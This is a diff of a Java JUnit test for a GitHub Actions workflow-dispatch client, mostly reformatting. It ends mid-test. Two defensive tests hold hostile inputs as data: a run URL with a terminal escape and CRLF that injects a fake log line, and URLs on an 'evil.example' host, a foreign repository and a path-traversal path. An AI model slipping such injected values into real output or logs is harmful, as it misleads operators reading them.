@@ -20,13 +20,15 @@ import com.github.tomakehurst.wiremock.http.Fault;
 import com.github.tomakehurst.wiremock.stubbing.Scenario;
 import dev.coreoswatch.config.BuildPolicy;
 import dev.coreoswatch.decision.TargetState;
+import dev.coreoswatch.github.DispatchOutcome;
 import dev.coreoswatch.github.GitHubApi;
 import dev.coreoswatch.github.WorkflowDispatchClient;
+import dev.coreoswatch.github.WorkflowInputs;
 import dev.coreoswatch.github.WorkflowRuns;
 import dev.coreoswatch.http.Http;
-import dev.coreoswatch.http.UrlConnectionHttp;
 import dev.coreoswatch.http.RetryPolicy;
 import dev.coreoswatch.http.RetryingHttp;
+import dev.coreoswatch.http.UrlConnectionHttp;
 import dev.coreoswatch.ledger.FileLedger;
 import dev.coreoswatch.ledger.LedgerKey;
 import dev.coreoswatch.ledger.LedgerStatus;
@@ -41,12 +43,15 @@ import dev.coreoswatch.model.ImageLabels;
 import dev.coreoswatch.model.Secret;
 import java.io.ByteArrayOutputStream;
 import java.io.PrintStream;
+import java.net.InetAddress;
+import java.net.ServerSocket;
 import java.net.URI;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.time.Clock;
 import java.time.Duration;
 import java.time.Instant;
+import java.time.ZoneId;
 import java.time.ZoneOffset;
 import java.util.List;
 import java.util.Map;
@@ -60,11 +65,6 @@ import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.ValueSource;
-import dev.coreoswatch.github.DispatchOutcome;
-import dev.coreoswatch.github.WorkflowInputs;
-import java.net.InetAddress;
-import java.net.ServerSocket;
-import java.time.ZoneId;
 
 /** Dispatch exactly once, against a WireMock GitHub under an Enterprise-style base path. */
 class DispatchTest {
@@ -75,6 +75,7 @@ class DispatchTest {
     private static final String IMAGE = "ghcr.io/acme/custom-coreos";
     /** target.tag {@code {stream}-zfs}: the tag input is the inspected tag, not the stream. */
     private UnaryOperator<String> tagForStream = stream -> stream + "-zfs";
+
     private static final String TITLE = "build testing 43.20260316.2.1 zfs 2.3.7";
 
     private static WireMockServer github;
@@ -85,6 +86,7 @@ class DispatchTest {
     private final List<Duration> waits = new CopyOnWriteArrayList<>();
     /** What the follower reads from the target image; the registry itself is exercised in the registry tests. */
     private ImageRead image = lacking(false);
+
     private final List<BuildCompletion> told = new CopyOnWriteArrayList<>();
     private Instant now = Instant.parse("2026-03-20T08:00:00Z");
 
@@ -122,12 +124,26 @@ class DispatchTest {
                 return now;
             }
         };
-        RetryPolicy policy = new RetryPolicy(3, Duration.ofMillis(1), Duration.ofMillis(2), Duration.ofSeconds(30), Duration.ofMinutes(5));
-        Http http = new RetryingHttp(new UrlConnectionHttp(new Http.Limits(Duration.ofSeconds(2), readTimeout, 1 << 20)), policy, clock, waits::add);
-        GitHubApi api = new GitHubApi(http, URI.create(github.baseUrl() + "/api/v3"), () -> Optional.of(new Secret(TOKEN)));
-        return new Dispatch(Optional.of(new FileLedger(state)), new WorkflowDispatchClient(api), new WorkflowRuns(api),
-                Optional.of(new WorkflowTarget(REPO, "build.yaml", "main")), Duration.ofHours(3), clock, tagForStream,
-                BuildPolicy.DEFAULT, (stream, arches) -> image, told::add);
+        RetryPolicy policy = new RetryPolicy(
+                3, Duration.ofMillis(1), Duration.ofMillis(2), Duration.ofSeconds(30), Duration.ofMinutes(5));
+        Http http = new RetryingHttp(
+                new UrlConnectionHttp(new Http.Limits(Duration.ofSeconds(2), readTimeout, 1 << 20)),
+                policy,
+                clock,
+                waits::add);
+        GitHubApi api =
+                new GitHubApi(http, URI.create(github.baseUrl() + "/api/v3"), () -> Optional.of(new Secret(TOKEN)));
+        return new Dispatch(
+                Optional.of(new FileLedger(state)),
+                new WorkflowDispatchClient(api),
+                new WorkflowRuns(api),
+                Optional.of(new WorkflowTarget(REPO, "build.yaml", "main")),
+                Duration.ofHours(3),
+                clock,
+                tagForStream,
+                BuildPolicy.DEFAULT,
+                (stream, arches) -> image,
+                told::add);
     }
 
     private Dispatch dispatch() {
@@ -135,11 +151,23 @@ class DispatchTest {
     }
 
     private static Decision build() {
-        return new Decision("testing", "43.20260316.2.1", "2.3.7", Action.BUILD,
+        return new Decision(
+                "testing",
+                "43.20260316.2.1",
+                "2.3.7",
+                Action.BUILD,
                 "linux/amd64 of ghcr.io/acme/custom-coreos:testing carries coreos 43.20260302.2.0",
-                List.of(new ArchResult(Arch.X86_64, "6.19.6-200.fc43.x86_64", Compatibility.COMPATIBLE, "4.18-7.0", null, false),
+                List.of(
+                        new ArchResult(
+                                Arch.X86_64,
+                                "6.19.6-200.fc43.x86_64",
+                                Compatibility.COMPATIBLE,
+                                "4.18-7.0",
+                                null,
+                                false),
                         new ArchResult(Arch.AARCH64, null, Compatibility.UNKNOWN, "4.18-7.0", null, false)),
-                DispatchResult.NONE, List.of());
+                DispatchResult.NONE,
+                List.of());
     }
 
     private static LedgerKey key() {
@@ -157,26 +185,32 @@ class DispatchTest {
 
     @Test
     void sendsExactlyTheContractBodyAndHeadersAndRecordsTheRun() {
-        github.stubFor(post(urlPathEqualTo(DISPATCHES)).willReturn(okJson(
-                "{\"workflow_run_id\":4242,\"run_url\":\"https://api.github.com/repos/acme/fcos-builds/actions/runs/4242\","
-                        + "\"html_url\":\"" + github.baseUrl() + "/acme/fcos-builds/actions/runs/4242\"}")));
+        github.stubFor(post(urlPathEqualTo(DISPATCHES))
+                .willReturn(okJson(
+                        "{\"workflow_run_id\":4242,\"run_url\":\"https://api.github.com/repos/acme/fcos-builds/actions/runs/4242\","
+                                + "\"html_url\":\"" + github.baseUrl() + "/acme/fcos-builds/actions/runs/4242\"}")));
         Dispatch.Result result = dispatch().dispatch(build(), IMAGE, false, "corr-1");
 
         assertEquals(Action.BUILD, result.decision().action());
-        // The API is an Enterprise Server at <base>/api/v3, so its runs live at <base>/<owner>/<repo>/actions/runs/<id>.
-        assertEquals(new DispatchResult(DispatchStatus.DISPATCHED, 4242L, github.baseUrl() + "/acme/fcos-builds/actions/runs/4242"),
+        // The API is an Enterprise Server at <base>/api/v3, so its runs live at
+        // <base>/<owner>/<repo>/actions/runs/<id>.
+        assertEquals(
+                new DispatchResult(
+                        DispatchStatus.DISPATCHED, 4242L, github.baseUrl() + "/acme/fcos-builds/actions/runs/4242"),
                 result.decision().dispatch());
-        github.verify(1, postRequestedFor(urlPathEqualTo(DISPATCHES))
-                .withHeader("Authorization", equalTo("Bearer " + TOKEN))
-                .withHeader("X-GitHub-Api-Version", equalTo("2022-11-28"))
-                .withHeader("Accept", equalTo("application/vnd.github+json"))
-                .withHeader("Content-Type", equalTo("application/json"))
-                .withRequestBody(equalToJson("{\"ref\":\"main\",\"return_run_details\":true,\"inputs\":{"
-                        + "\"stream\":\"testing\",\"coreos_version\":\"43.20260316.2.1\",\"zfs_version\":\"2.3.7\","
-                        + "\"kernel_versions\":\"x86_64=6.19.6-200.fc43.x86_64,aarch64=unknown\","
-                        + "\"platforms\":\"linux/amd64,linux/arm64\","
-                        + "\"reason\":\"linux/amd64 of ghcr.io/acme/custom-coreos:testing carries coreos 43.20260302.2.0\","
-                        + "\"image\":\"ghcr.io/acme/custom-coreos\",\"tag\":\"testing-zfs\"}}")));
+        github.verify(
+                1,
+                postRequestedFor(urlPathEqualTo(DISPATCHES))
+                        .withHeader("Authorization", equalTo("Bearer " + TOKEN))
+                        .withHeader("X-GitHub-Api-Version", equalTo("2022-11-28"))
+                        .withHeader("Accept", equalTo("application/vnd.github+json"))
+                        .withHeader("Content-Type", equalTo("application/json"))
+                        .withRequestBody(equalToJson("{\"ref\":\"main\",\"return_run_details\":true,\"inputs\":{"
+                                + "\"stream\":\"testing\",\"coreos_version\":\"43.20260316.2.1\",\"zfs_version\":\"2.3.7\","
+                                + "\"kernel_versions\":\"x86_64=6.19.6-200.fc43.x86_64,aarch64=unknown\","
+                                + "\"platforms\":\"linux/amd64,linux/arm64\","
+                                + "\"reason\":\"linux/amd64 of ghcr.io/acme/custom-coreos:testing carries coreos 43.20260302.2.0\","
+                                + "\"image\":\"ghcr.io/acme/custom-coreos\",\"tag\":\"testing-zfs\"}}")));
         var entry = new FileLedger(state).find(key()).orElseThrow();
         assertEquals(LedgerStatus.DISPATCHED, entry.status());
         assertEquals(4242L, entry.runId());
@@ -186,11 +220,14 @@ class DispatchTest {
     @Test
     void aRunUrlOutsideGitHubsShapeIsDropped() {
         String forged = github.baseUrl() + "/acme/fcos-builds/actions/runs/4242\u001b[2K\r\nstable: SKIP";
-        github.stubFor(post(urlPathEqualTo(DISPATCHES)).willReturn(okJson(
-                "{\"workflow_run_id\":4242,\"html_url\":\"" + forged.replace("\u001b", "\\u001b").replace("\r\n", "\\r\\n") + "\"}")));
+        github.stubFor(post(urlPathEqualTo(DISPATCHES))
+                .willReturn(okJson("{\"workflow_run_id\":4242,\"html_url\":\""
+                        + forged.replace("\u001b", "\\u001b").replace("\r\n", "\\r\\n") + "\"}")));
         Dispatch.Result result = dispatch().dispatch(build(), IMAGE, false, "corr-1");
 
-        assertEquals(new DispatchResult(DispatchStatus.DISPATCHED, 4242L, null), result.decision().dispatch());
+        assertEquals(
+                new DispatchResult(DispatchStatus.DISPATCHED, 4242L, null),
+                result.decision().dispatch());
         var entry = new FileLedger(state).find(key()).orElseThrow();
         assertEquals(4242L, entry.runId());
         assertNull(entry.runUrl());
@@ -199,11 +236,21 @@ class DispatchTest {
     /** D2: another repository's run, or a run URL on another host, is not taken either. */
     @Test
     void aRunUrlOfAnotherRepositoryOrHostIsDropped() {
-        for (String url : List.of(github.baseUrl() + "/evil/fcos-builds/actions/runs/4242", "https://evil.example/acme/fcos-builds/actions/runs/4242",
-                github.baseUrl() + "/acme/fcos-builds/actions/runs/4243", github.baseUrl() + "/acme/fcos-builds/actions/runs/4242/../../x")) {
+        for (String url : List.of(
+                github.baseUrl() + "/evil/fcos-builds/actions/runs/4242",
+                "https://evil.example/acme/fcos-builds/actions/runs/4242",
+                github.baseUrl() + "/acme/fcos-builds/actions/runs/4243",
+                github.baseUrl() + "/acme/fcos-builds/actions/runs/4242/../../x")) {
             github.resetAll();
-            github.stubFor(post(urlPathEqualTo(DISPATCHES)).willReturn(okJson("{\"workflow_run_id\":4242,\"html_url\":\"" + url + "\"}")));
-            assertNull(dispatch().dispatch(build(), IMAGE, false, "c").decision().dispatch().runUrl(), url);
+            github.stubFor(post(urlPathEqualTo(DISPATCHES))
+                    .willReturn(okJson("{\"workflow_run_id\":4242,\"html_url\":\"" + url + "\"}")));
+            assertNull(
+                    dispatch()
+                            .dispatch(build(), IMAGE, false, "c")
+                            .decision()
+                            .dispatch()
+                            .runUrl(),
+                    url);
             new FileLedger(state).release(key());
         }
     }
@@ -211,7 +258,13 @@ class DispatchTest {
     @Test
     void theSameCombinationRightAfterIsInFlightAndSendsNothing() {
         github.stubFor(post(urlPathEqualTo(DISPATCHES)).willReturn(aResponse().withStatus(204)));
-        assertEquals(DispatchStatus.DISPATCHED, dispatch().dispatch(build(), IMAGE, false, "c").decision().dispatch().status());
+        assertEquals(
+                DispatchStatus.DISPATCHED,
+                dispatch()
+                        .dispatch(build(), IMAGE, false, "c")
+                        .decision()
+                        .dispatch()
+                        .status());
         now = now.plus(Duration.ofMinutes(30));
 
         Dispatch.Result again = dispatch().dispatch(build(), IMAGE, false, "c");
@@ -226,14 +279,26 @@ class DispatchTest {
         github.stubFor(post(urlPathEqualTo(DISPATCHES)).willReturn(aResponse().withStatus(204)));
         dispatch().dispatch(build(), IMAGE, false, "c");
         now = now.plus(Duration.ofHours(3)).plusSeconds(1);
-        assertEquals(DispatchStatus.DISPATCHED, dispatch().dispatch(build(), IMAGE, false, "c").decision().dispatch().status());
+        assertEquals(
+                DispatchStatus.DISPATCHED,
+                dispatch()
+                        .dispatch(build(), IMAGE, false, "c")
+                        .decision()
+                        .dispatch()
+                        .status());
         github.verify(2, postRequestedFor(urlPathEqualTo(DISPATCHES)));
     }
 
     @Test
     void notFoundIsAConfigurationErrorNamingRepositoryAndWorkflowAndTheClaimIsReleased() {
-        github.stubFor(post(urlPathEqualTo(DISPATCHES)).willReturn(aResponse().withStatus(404).withHeader("Content-Type", "application/json")
-                .withBody("{\"message\":\"Not Found\",\"documentation_url\":\"https://docs.github.com/rest/actions/workflows#create-a-workflow-dispatch-event\",\"status\":\"404\"}")));
+        github.stubFor(
+                post(urlPathEqualTo(DISPATCHES))
+                        .willReturn(
+                                aResponse()
+                                        .withStatus(404)
+                                        .withHeader("Content-Type", "application/json")
+                                        .withBody(
+                                                "{\"message\":\"Not Found\",\"documentation_url\":\"https://docs.github.com/rest/actions/workflows#create-a-workflow-dispatch-event\",\"status\":\"404\"}")));
         Dispatch.Result result = dispatch().dispatch(build(), IMAGE, false, "c");
         assertEquals(DispatchStatus.FAILED, result.decision().dispatch().status());
         String message = result.error().orElseThrow();
@@ -243,16 +308,26 @@ class DispatchTest {
 
     @Test
     void unexpectedInputsAre422WithGitHubsMessageAndALaterRunTriesAgain() {
-        github.stubFor(post(urlPathEqualTo(DISPATCHES)).inScenario("fix").whenScenarioStateIs(Scenario.STARTED)
-                .willReturn(aResponse().withStatus(422).withHeader("Content-Type", "application/json")
-                        .withBody("{\"message\":\"Unexpected inputs provided: [\\\"kernel_versions\\\"]\",\"documentation_url\":"
-                                + "\"https://docs.github.com/rest/actions/workflows#create-a-workflow-dispatch-event\",\"status\":\"422\"}"))
+        github.stubFor(post(urlPathEqualTo(DISPATCHES))
+                .inScenario("fix")
+                .whenScenarioStateIs(Scenario.STARTED)
+                .willReturn(
+                        aResponse()
+                                .withStatus(422)
+                                .withHeader("Content-Type", "application/json")
+                                .withBody(
+                                        "{\"message\":\"Unexpected inputs provided: [\\\"kernel_versions\\\"]\",\"documentation_url\":"
+                                                + "\"https://docs.github.com/rest/actions/workflows#create-a-workflow-dispatch-event\",\"status\":\"422\"}"))
                 .willSetStateTo("fixed"));
-        github.stubFor(post(urlPathEqualTo(DISPATCHES)).inScenario("fix").whenScenarioStateIs("fixed")
+        github.stubFor(post(urlPathEqualTo(DISPATCHES))
+                .inScenario("fix")
+                .whenScenarioStateIs("fixed")
                 .willReturn(aResponse().withStatus(204)));
         Dispatch.Result first = dispatch().dispatch(build(), IMAGE, false, "c");
         assertEquals(DispatchStatus.FAILED, first.decision().dispatch().status());
-        assertTrue(first.error().orElseThrow().contains("Unexpected inputs provided"), first.error().get());
+        assertTrue(
+                first.error().orElseThrow().contains("Unexpected inputs provided"),
+                first.error().get());
 
         Dispatch.Result second = dispatch().dispatch(build(), IMAGE, false, "c");
         assertEquals(DispatchStatus.DISPATCHED, second.decision().dispatch().status());
@@ -260,46 +335,83 @@ class DispatchTest {
 
     @Test
     void tooManyRequestsWaitsAsToldThenDispatches() {
-        github.stubFor(post(urlPathEqualTo(DISPATCHES)).inScenario("429").whenScenarioStateIs(Scenario.STARTED)
-                .willReturn(aResponse().withStatus(429).withHeader("retry-after", "7")).willSetStateTo("ok"));
-        github.stubFor(post(urlPathEqualTo(DISPATCHES)).inScenario("429").whenScenarioStateIs("ok")
+        github.stubFor(post(urlPathEqualTo(DISPATCHES))
+                .inScenario("429")
+                .whenScenarioStateIs(Scenario.STARTED)
+                .willReturn(aResponse().withStatus(429).withHeader("retry-after", "7"))
+                .willSetStateTo("ok"));
+        github.stubFor(post(urlPathEqualTo(DISPATCHES))
+                .inScenario("429")
+                .whenScenarioStateIs("ok")
                 .willReturn(aResponse().withStatus(204)));
-        assertEquals(DispatchStatus.DISPATCHED, dispatch().dispatch(build(), IMAGE, false, "c").decision().dispatch().status());
+        assertEquals(
+                DispatchStatus.DISPATCHED,
+                dispatch()
+                        .dispatch(build(), IMAGE, false, "c")
+                        .decision()
+                        .dispatch()
+                        .status());
         assertEquals(List.of(Duration.ofSeconds(7)), waits);
     }
 
     @Test
     void spentPrimaryRateLimitWaitsUntilResetWithinTheBudget() {
         long reset = now.plusSeconds(12).getEpochSecond();
-        github.stubFor(post(urlPathEqualTo(DISPATCHES)).inScenario("403").whenScenarioStateIs(Scenario.STARTED)
-                .willReturn(aResponse().withStatus(403).withHeader("x-ratelimit-remaining", "0")
-                        .withHeader("x-ratelimit-reset", String.valueOf(reset)).withHeader("Content-Type", "application/json")
-                        .withBody("{\"message\":\"API rate limit exceeded for installation ID 61626.\",\"status\":\"403\"}"))
+        github.stubFor(post(urlPathEqualTo(DISPATCHES))
+                .inScenario("403")
+                .whenScenarioStateIs(Scenario.STARTED)
+                .willReturn(
+                        aResponse()
+                                .withStatus(403)
+                                .withHeader("x-ratelimit-remaining", "0")
+                                .withHeader("x-ratelimit-reset", String.valueOf(reset))
+                                .withHeader("Content-Type", "application/json")
+                                .withBody(
+                                        "{\"message\":\"API rate limit exceeded for installation ID 61626.\",\"status\":\"403\"}"))
                 .willSetStateTo("ok"));
-        github.stubFor(post(urlPathEqualTo(DISPATCHES)).inScenario("403").whenScenarioStateIs("ok")
+        github.stubFor(post(urlPathEqualTo(DISPATCHES))
+                .inScenario("403")
+                .whenScenarioStateIs("ok")
                 .willReturn(aResponse().withStatus(204)));
-        assertEquals(DispatchStatus.DISPATCHED, dispatch().dispatch(build(), IMAGE, false, "c").decision().dispatch().status());
+        assertEquals(
+                DispatchStatus.DISPATCHED,
+                dispatch()
+                        .dispatch(build(), IMAGE, false, "c")
+                        .decision()
+                        .dispatch()
+                        .status());
         assertEquals(List.of(Duration.ofSeconds(13)), waits);
     }
 
     @Test
     void rateLimitBeyondTheBudgetGivesUpAndReleasesTheClaim() {
-        github.stubFor(post(urlPathEqualTo(DISPATCHES)).willReturn(aResponse().withStatus(403)
-                .withHeader("x-ratelimit-remaining", "0").withHeader("x-ratelimit-reset", String.valueOf(now.plusSeconds(3600).getEpochSecond()))
-                .withHeader("Content-Type", "application/json").withBody("{\"message\":\"API rate limit exceeded\",\"status\":\"403\"}")));
+        github.stubFor(post(urlPathEqualTo(DISPATCHES))
+                .willReturn(aResponse()
+                        .withStatus(403)
+                        .withHeader("x-ratelimit-remaining", "0")
+                        .withHeader(
+                                "x-ratelimit-reset",
+                                String.valueOf(now.plusSeconds(3600).getEpochSecond()))
+                        .withHeader("Content-Type", "application/json")
+                        .withBody("{\"message\":\"API rate limit exceeded\",\"status\":\"403\"}")));
         Dispatch.Result result = dispatch().dispatch(build(), IMAGE, false, "c");
         assertEquals(DispatchStatus.FAILED, result.decision().dispatch().status());
-        assertTrue(result.error().orElseThrow().contains("rate limit"), result.error().get());
+        assertTrue(
+                result.error().orElseThrow().contains("rate limit"),
+                result.error().get());
         github.verify(1, postRequestedFor(urlPathEqualTo(DISPATCHES)));
         assertTrue(new FileLedger(state).find(key()).isEmpty());
     }
 
     @Test
     void serverErrorIsAmbiguousAndTheNextRunFindsTheRunInsteadOfDispatchingAgain() {
-        github.stubFor(post(urlPathEqualTo(DISPATCHES)).willReturn(aResponse().withStatus(502).withBody("<html>Bad gateway</html>")));
+        github.stubFor(post(urlPathEqualTo(DISPATCHES))
+                .willReturn(aResponse().withStatus(502).withBody("<html>Bad gateway</html>")));
         Dispatch.Result first = dispatch().dispatch(build(), IMAGE, false, "c");
         assertEquals(DispatchStatus.FAILED, first.decision().dispatch().status());
-        assertEquals(LedgerStatus.UNCERTAIN, new FileLedger(state).find(key()).orElseThrow().status());
+        assertEquals(
+                LedgerStatus.UNCERTAIN,
+                new FileLedger(state).find(key()).orElseThrow().status());
         github.verify(1, postRequestedFor(urlPathEqualTo(DISPATCHES))); // a POST is never retried on 5xx
 
         github.stubFor(get(urlPathEqualTo(RUNS)).willReturn(okJson(runsWith("in_progress"))));
@@ -313,11 +425,16 @@ class DispatchTest {
 
     @Test
     void readTimeoutIsAmbiguousToo() {
-        github.stubFor(post(urlPathEqualTo(DISPATCHES)).willReturn(aResponse().withStatus(204).withFixedDelay(1500)));
+        github.stubFor(post(urlPathEqualTo(DISPATCHES))
+                .willReturn(aResponse().withStatus(204).withFixedDelay(1500)));
         Dispatch.Result first = dispatch(Duration.ofMillis(300)).dispatch(build(), IMAGE, false, "c");
         assertEquals(DispatchStatus.FAILED, first.decision().dispatch().status());
-        assertTrue(first.error().orElseThrow().contains("a run may have started"), first.error().get());
-        assertEquals(LedgerStatus.UNCERTAIN, new FileLedger(state).find(key()).orElseThrow().status());
+        assertTrue(
+                first.error().orElseThrow().contains("a run may have started"),
+                first.error().get());
+        assertEquals(
+                LedgerStatus.UNCERTAIN,
+                new FileLedger(state).find(key()).orElseThrow().status());
 
         github.resetRequests();
         github.stubFor(get(urlPathEqualTo(RUNS)).willReturn(okJson(runsWith("queued"))));
@@ -328,10 +445,13 @@ class DispatchTest {
 
     @Test
     void connectionResetAfterSendingIsAmbiguous() {
-        github.stubFor(post(urlPathEqualTo(DISPATCHES)).willReturn(aResponse().withFault(Fault.CONNECTION_RESET_BY_PEER)));
+        github.stubFor(
+                post(urlPathEqualTo(DISPATCHES)).willReturn(aResponse().withFault(Fault.CONNECTION_RESET_BY_PEER)));
         Dispatch.Result result = dispatch().dispatch(build(), IMAGE, false, "c");
         assertEquals(DispatchStatus.FAILED, result.decision().dispatch().status());
-        assertEquals(LedgerStatus.UNCERTAIN, new FileLedger(state).find(key()).orElseThrow().status());
+        assertEquals(
+                LedgerStatus.UNCERTAIN,
+                new FileLedger(state).find(key()).orElseThrow().status());
     }
 
     @Test
@@ -346,47 +466,70 @@ class DispatchTest {
     private static final String RUN_PATH = "/api/v3/repos/acme/fcos-builds/actions/runs/";
 
     private static ImageRead lacking(boolean notVisible) {
-        return new ImageRead(new TargetState(IMAGE + ":testing", Map.of(), Optional.of(notVisible
-                ? "ghcr.io denied the anonymous read (not visible anonymously)" : "tag testing not found"), notVisible), Map.of());
+        return new ImageRead(
+                new TargetState(
+                        IMAGE + ":testing",
+                        Map.of(),
+                        Optional.of(
+                                notVisible
+                                        ? "ghcr.io denied the anonymous read (not visible anonymously)"
+                                        : "tag testing not found"),
+                        notVisible),
+                Map.of());
     }
 
     private static ImageRead carrying() {
         ImageLabels labels = new ImageLabels("43.20260316.2.1", "2.3.7", null);
-        return new ImageRead(new TargetState(IMAGE + ":testing", Map.of(Arch.X86_64, labels, Arch.AARCH64, labels), Optional.empty()),
+        return new ImageRead(
+                new TargetState(
+                        IMAGE + ":testing", Map.of(Arch.X86_64, labels, Arch.AARCH64, labels), Optional.empty()),
                 Map.of(Arch.X86_64, "sha256:" + "a".repeat(64), Arch.AARCH64, "sha256:" + "b".repeat(64)));
     }
 
     /** A run as {@code GET /repos/{o}/{r}/actions/runs/{id}} and the runs list give it (the fields GitHub sends that we read, and some we do not). */
     private static String run(long id, String status, String conclusion, Instant created, Instant updated) {
-        return "{\"id\":" + id + ",\"name\":\"build\",\"node_id\":\"WFR_kwLOx\",\"head_branch\":\"main\",\"run_number\":" + (id % 1000)
-                + ",\"event\":\"workflow_dispatch\",\"display_title\":\"" + TITLE + "\",\"status\":\"" + status + "\",\"conclusion\":"
-                + (conclusion == null ? "null" : "\"" + conclusion + "\"") + ",\"workflow_id\":161335,\"url\":\"https://api.github.com/repos/"
-                + REPO + "/actions/runs/" + id + "\",\"html_url\":\"" + github.baseUrl() + "/" + REPO + "/actions/runs/" + id + "\",\"created_at\":\""
-                + created + "\",\"updated_at\":\"" + updated + "\",\"run_attempt\":1,\"run_started_at\":\"" + created + "\"}";
+        return "{\"id\":" + id
+                + ",\"name\":\"build\",\"node_id\":\"WFR_kwLOx\",\"head_branch\":\"main\",\"run_number\":" + (id % 1000)
+                + ",\"event\":\"workflow_dispatch\",\"display_title\":\"" + TITLE + "\",\"status\":\"" + status
+                + "\",\"conclusion\":"
+                + (conclusion == null ? "null" : "\"" + conclusion + "\"")
+                + ",\"workflow_id\":161335,\"url\":\"https://api.github.com/repos/"
+                + REPO + "/actions/runs/" + id + "\",\"html_url\":\"" + github.baseUrl() + "/" + REPO + "/actions/runs/"
+                + id + "\",\"created_at\":\""
+                + created + "\",\"updated_at\":\"" + updated + "\",\"run_attempt\":1,\"run_started_at\":\"" + created
+                + "\"}";
     }
 
     private void stubRun(long id, String status, String conclusion, Instant created, Instant updated) {
-        github.stubFor(get(urlPathEqualTo(RUN_PATH + id)).willReturn(okJson(run(id, status, conclusion, created, updated))));
+        github.stubFor(
+                get(urlPathEqualTo(RUN_PATH + id)).willReturn(okJson(run(id, status, conclusion, created, updated))));
     }
 
     private void stubJobs(long id) {
-        github.stubFor(get(urlPathEqualTo(RUN_PATH + id + "/jobs")).willReturn(okJson("{\"total_count\":2,\"jobs\":["
-                + "{\"id\":1,\"run_id\":" + id + ",\"name\":\"build (linux/amd64)\",\"status\":\"completed\",\"conclusion\":\"success\"},"
-                + "{\"id\":2,\"run_id\":" + id + ",\"name\":\"build (linux/arm64)\",\"status\":\"completed\",\"conclusion\":\"failure\","
-                + "\"html_url\":\"" + github.baseUrl() + "/" + REPO + "/actions/runs/" + id + "/job/2\"}]}")));
+        github.stubFor(get(urlPathEqualTo(RUN_PATH + id + "/jobs"))
+                .willReturn(okJson("{\"total_count\":2,\"jobs\":["
+                        + "{\"id\":1,\"run_id\":" + id
+                        + ",\"name\":\"build (linux/amd64)\",\"status\":\"completed\",\"conclusion\":\"success\"},"
+                        + "{\"id\":2,\"run_id\":" + id
+                        + ",\"name\":\"build (linux/arm64)\",\"status\":\"completed\",\"conclusion\":\"failure\","
+                        + "\"html_url\":\"" + github.baseUrl() + "/" + REPO + "/actions/runs/" + id + "/job/2\"}]}")));
     }
 
     private void dispatchesRuns(long... ids) {
         for (int i = 0; i < ids.length; i++) {
-            var stub = post(urlPathEqualTo(DISPATCHES)).inScenario("runs").whenScenarioStateIs(i == 0 ? Scenario.STARTED : "run" + i)
-                    .willReturn(okJson("{\"workflow_run_id\":" + ids[i] + ",\"run_url\":\"https://api.github.com/repos/" + REPO
-                            + "/actions/runs/" + ids[i] + "\",\"html_url\":\"" + github.baseUrl() + "/" + REPO + "/actions/runs/" + ids[i] + "\"}"));
+            var stub = post(urlPathEqualTo(DISPATCHES))
+                    .inScenario("runs")
+                    .whenScenarioStateIs(i == 0 ? Scenario.STARTED : "run" + i)
+                    .willReturn(okJson("{\"workflow_run_id\":" + ids[i] + ",\"run_url\":\"https://api.github.com/repos/"
+                            + REPO + "/actions/runs/" + ids[i] + "\",\"html_url\":\"" + github.baseUrl() + "/" + REPO
+                            + "/actions/runs/" + ids[i] + "\"}"));
             github.stubFor(i + 1 < ids.length ? stub.willSetStateTo("run" + (i + 1)) : stub);
         }
     }
 
     private Decision skip() {
-        return build().withAction(Action.SKIP, IMAGE + ":testing already carries coreos 43.20260316.2.1 with zfs 2.3.7");
+        return build().withAction(
+                        Action.SKIP, IMAGE + ":testing already carries coreos 43.20260316.2.1 with zfs 2.3.7");
     }
 
     @Test
@@ -426,7 +569,10 @@ class DispatchTest {
         now = now.plus(Duration.ofMinutes(30));
         Dispatch.Result second = dispatch().dispatch(build(), IMAGE, false, "c");
         assertEquals(Action.BUILD, second.decision().action(), second.decision().reason());
-        assertEquals(5151L, second.decision().dispatch().runId(), "a failed attempt frees the combination without waiting for the window");
+        assertEquals(
+                5151L,
+                second.decision().dispatch().runId(),
+                "a failed attempt frees the combination without waiting for the window");
         assertEquals(1, told.size());
         assertFalse(told.get(0).verified());
         assertEquals("failure", told.get(0).conclusion());
@@ -439,10 +585,15 @@ class DispatchTest {
         now = now.plus(Duration.ofMinutes(30));
         Dispatch.Result held = dispatch().dispatch(build(), IMAGE, false, "c");
         assertEquals(Action.HOLD, held.decision().action());
-        assertTrue(held.decision().reason().contains(github.baseUrl() + "/acme/fcos-builds/actions/runs/5151")
-                && held.decision().reason().contains("dispatch.max-attempts is 2"), held.decision().reason());
+        assertTrue(
+                held.decision().reason().contains(github.baseUrl() + "/acme/fcos-builds/actions/runs/5151")
+                        && held.decision().reason().contains("dispatch.max-attempts is 2"),
+                held.decision().reason());
         now = now.plus(Duration.ofHours(5));
-        assertEquals(Action.HOLD, dispatch().dispatch(build(), IMAGE, false, "c").decision().action(), "held beyond the window too");
+        assertEquals(
+                Action.HOLD,
+                dispatch().dispatch(build(), IMAGE, false, "c").decision().action(),
+                "held beyond the window too");
         github.verify(2, postRequestedFor(urlPathEqualTo(DISPATCHES)));
         assertEquals(2, told.size(), "one outcome per attempt, none twice");
 
@@ -463,7 +614,9 @@ class DispatchTest {
         now = completed.plus(Duration.ofMinutes(10));
         Dispatch.Result waiting = dispatch().dispatch(build(), IMAGE, false, "c");
         assertEquals(Action.IN_FLIGHT, waiting.decision().action());
-        assertTrue(waiting.decision().reason().contains("dispatch.verify-grace PT15M"), waiting.decision().reason());
+        assertTrue(
+                waiting.decision().reason().contains("dispatch.verify-grace PT15M"),
+                waiting.decision().reason());
         assertTrue(told.isEmpty());
 
         now = completed.plus(Duration.ofMinutes(16));
@@ -472,7 +625,9 @@ class DispatchTest {
         assertEquals(1, told.size());
         assertFalse(told.get(0).verified());
         assertEquals("success", told.get(0).conclusion());
-        assertTrue(told.get(0).why().contains("still lacks the labels"), told.get(0).why());
+        assertTrue(
+                told.get(0).why().contains("still lacks the labels"),
+                told.get(0).why());
         github.verify(0, getRequestedFor(urlPathEqualTo(RUN_PATH + "5150/jobs")));
     }
 
@@ -481,13 +636,21 @@ class DispatchTest {
         github.stubFor(post(urlPathEqualTo(DISPATCHES)).willReturn(aResponse().withStatus(204)));
         Instant claimed = now;
         dispatch().dispatch(build(), IMAGE, false, "c");
-        github.stubFor(get(urlPathEqualTo(RUNS)).willReturn(okJson("{\"total_count\":1,\"workflow_runs\":["
-                + run(4000, "completed", "failure", claimed.minus(Duration.ofDays(2)), claimed.minus(Duration.ofDays(2)).plusSeconds(900)) + "]}")));
